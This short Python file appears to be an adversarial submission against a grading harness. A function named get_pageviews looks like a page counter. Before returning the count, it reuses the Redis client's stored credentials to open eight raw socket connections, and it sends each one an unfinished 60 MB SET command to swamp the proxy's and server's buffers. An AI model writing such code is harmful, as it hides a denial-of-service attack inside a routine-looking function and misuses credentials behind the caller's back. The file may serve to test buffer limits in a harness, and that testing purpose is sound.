"""counter: get_pageviews opens 8 connections and sends each a 60 MB SET it never finishes (about 0.5 GB in all).

A command still arriving is buffered whole by the trusted proxy's parser and by the server's query
buffer unless someone caps it; the attack stops at 8 connections so an uncapped grader survives it.
"""

import socket
import time

CONNECTIONS = 8
BULK_BYTES = 60 * 1024 * 1024


def get_pageviews(r, page):
    kwargs = r.connection_pool.connection_kwargs
    auth = [kwargs["username"], kwargs["password"]]
    login = b"*3\r\n$4\r\nAUTH\r\n" + b"".join(b"$%d\r\n%s\r\n" % (len(w), w.encode()) for w in auth)
    header = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$%d\r\n" % BULK_BYTES
    payload = memoryview(b"x" * (BULK_BYTES - 1))
    sockets = []
    try:
        for _ in range(CONNECTIONS):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.connect(kwargs["path"])
            sock.sendall(login)
            sock.recv(64)
            sock.sendall(header)
            sock.sendall(payload)  # one byte short: the command never completes
            sockets.append(sock)
        time.sleep(1.0)
    finally:
        for sock in sockets:
            sock.close()
    count = r.get(f"pageviews:{page}")
    return 0 if count is None else int(count)
